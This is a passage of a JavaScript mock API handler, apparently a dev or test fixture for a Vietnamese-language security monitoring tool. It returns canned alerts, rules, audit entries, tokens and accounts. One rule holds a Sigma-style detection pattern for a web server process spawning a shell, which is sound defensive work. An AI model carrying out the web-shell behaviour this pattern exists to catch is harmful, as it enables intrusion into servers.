        version: '0.1',
        state: 'running',
        seen: iso(now() - 3000),
        probes: [
          { name: 'packet', state: 'running' },
          { name: 'exec', state: 'refused', reason: 'cần CAP_BPF', allow: 'sudo setcap cap_bpf,cap_perfmon+ep /usr/bin/hoalu' },
        ],
      },
    ]);
  if (p === '/api/ledger')
    return {
      body: {
        items: Array.from({ length: 60 }, (_, i) =>
          ledgerRow(minute() - i * MIN, q.get('view') === 'source' ? { id: 'NG-0002', name: 'may-1' } : undefined),
        ),
        status: { state: 'balanced', minute: iso(minute() - 2 * MIN), difference: 0, since: iso(now() - 41 * 86400_000) },
        sum: ledgerRow(minute()),
        map: [
          { minute: iso(minute()), state: 'unchecked', difference: 0 },
          { minute: iso(minute() - MIN), state: 'unchecked', difference: 0 },
          { minute: iso(minute() - 200 * MIN), state: 'off', difference: 12 },
        ],
        kept_since: iso(now() - 41 * 86400_000),
        ...frame(60),
      },
    };
  if (p === '/api/quarantine' && method === 'GET')
    return {
      body: {
        items: Array.from({ length: 12 }, (_, i) => ({
          id: `q${i}`,
          source: { id: 'NG-0002', name: 'may-1' },
          time: iso(now() - i * MIN),
          reason: 'json',
          size: 912,
        })),
        reasons: { json: 200, oversize: 14 },
        ...frame(214),
      },
    };
  if (p === '/api/national/endpoint')
    return {
      body: {
        url: 'https://tiepnhan.trungtam.example/v1',
        channel: 'json',
        version: 1,
        changed: iso(now() - 86400_000),
        by: 'Quản trị 1',
        certificate: '-----BEGIN CERTIFICATE-----\nMIIB…\n-----END CERTIFICATE-----',
      },
    };
  if (p === '/api/national/outbox')
    return { body: { items: outbox.filter((o) => !q.get('state') || o.state === q.get('state')), ...frame(outbox.length) } };
  if ((m = /^\/api\/national\/outbox\/(.+)$/.exec(p)))
    return {
      body: { ...(outbox.find((o) => o.id === m[1]) ?? outbox[0]), body: '{"id":"BC-1","kind":"alert","severity":"critical"}' },
    };
  if (p === '/api/national/test') return { body: { report: 'BC-t1', ok: true, text: 'accepted' } };
  if (p === '/api/national')
    return {
      body: {
        ...nationalStatus(),
        endpoint: 'https://tiepnhan.trungtam.example/v1',
        channel: 'json',
        heartbeat_seconds: 300,
        today: { day: day(0), made: 187, accepted: 184, refused: 0, waiting: 3, state: 'open' },
        days: Array.from({ length: 7 }, (_, i) => ({
          day: day(i),
          made: 187,
          accepted: i ? 187 : 184,
          refused: 0,
          waiting: i ? 0 : 3,
          state: i ? 'balanced' : 'open',
          reconciled: i ? iso(now() - i * 86400_000) : undefined,
        })),
        room_days: 31,
        as_of: iso(now()),
        stale_after: iso(now() + 60_000),
      },
    };
  if (p === '/api/rules')
    return {
      body: { items: rules.filter((r) => !q.get('state') || r.state === q.get('state')), running: 87, refused: 3, ...frame(90) },
    };
  if ((m = /^\/api\/rules\/(.+)$/.exec(p)))
    return {
      body: {
        ...(rules.find((r) => r.id === decodeURIComponent(m[1])) ?? rules[0]),
        why: { vi: 'Vì sao', en: 'Why' },
        runbook: { vi: ['a', 'b', 'c'], en: ['a', 'b', 'c'] },
        text: 'title: Web process spawned a shell\nlogsource:\n  product: linux\ndetection:\n  selection:\n    ParentImage|endswith: /nginx\n  condition: selection\n',
      },
    };
  if (p === '/api/audit')
    return {
      body: {
        items: Array.from({ length: 40 }, (_, i) => ({
          number: 9000 - i,
          time: iso(now() - i * 5 * MIN),
          actor: { id: 'p1', name: 'Trực ban 1' },
          roles: ['analyst'],
          action: ['alert.close', 'alert.acknowledge', 'search.run', 'account.login'][i % 4],
          object: i % 4 < 2 ? alerts[i].number : '',
          result: i % 9 === 8 ? 'denied' : 'done',
          address: '10.20.1.15',
          reason: '',
        })),
        head: { size: 9000, root: 'a94f…', time: iso(now() - 4000), checkpoint: 'hoalu/log\n9000\nqU8…\n\n— hoalu AbC…' },
        ...frame(9000),
      },
    };
  if (p === '/api/tokens' && method === 'GET')
    return page([
      {
        id: 't1',
        name: 'Vector',
        roles: ['analyst'],
        created: iso(now() - 5 * 86400_000),
        by: 'Quản trị 1',
        expires: iso(now() + 85 * 86400_000),
        last_use: iso(now() - MIN),
      },
    ]);
  if (p === '/api/tokens')
    return {
      body: {
        token: { id: 't2', name: body.name, roles: body.roles, created: iso(now()), by: 'x', expires: iso(now()) },
        secret: 'hl_3kf92kd93kd9f3k2d9',
      },
    };
  if (p === '/api/accounts' && method === 'GET')
    return page([
      {
        id: 'p1',
        login: 'trucban1',
        name: 'Trực ban 1',
        roles: ['analyst', 'administrator'],
        state: 'active',
        created: iso(now()),
        last_use: iso(now() - 4000),
        sessions: 1,
        two_roles: true,
        version: 1,
      },
      {
        id: 'p2',
        login: 'trucban2',
        name: 'Trực ban 2',
        roles: ['analyst'],
        state: 'invited',
        created: iso(now()),
        sessions: 0,
        two_roles: false,
        version: 1,
      },
    ]);
  if (p === '/api/accounts')
    return {
      body: {
        account: {
          id: 'p3',
          login: body.login,
          name: body.name,
          roles: body.roles,
          state: 'invited',
          created: iso(now()),
          sessions: 0,
          two_roles: false,
          version: 1,
        },
        link: 'http://localhost:8080/first#abc',
        expires: iso(now() + 900_000),
      },
    };
  if (p === '/api/sessions')
    return page([
      {
        id: 's1',
        account: { id: 'p1', name: 'Trực ban 1' },
        address: '10.20.1.15',
        agent: 'Chromium 140 Linux',
        started: iso(now() - 3600_000),
        seen: iso(now()),
        ends: iso(now() + 3600_000),
        current: true,
      },
    ]);
  if (p === '/api/people')
    return page([
      { id: 'p1', name: 'Trực ban 1' },
      { id: 'p2', name: 'Trực ban 2' },
    ]);
  return { status: 404, body: { status: 404, code: 'not_found', detail: p } };
}
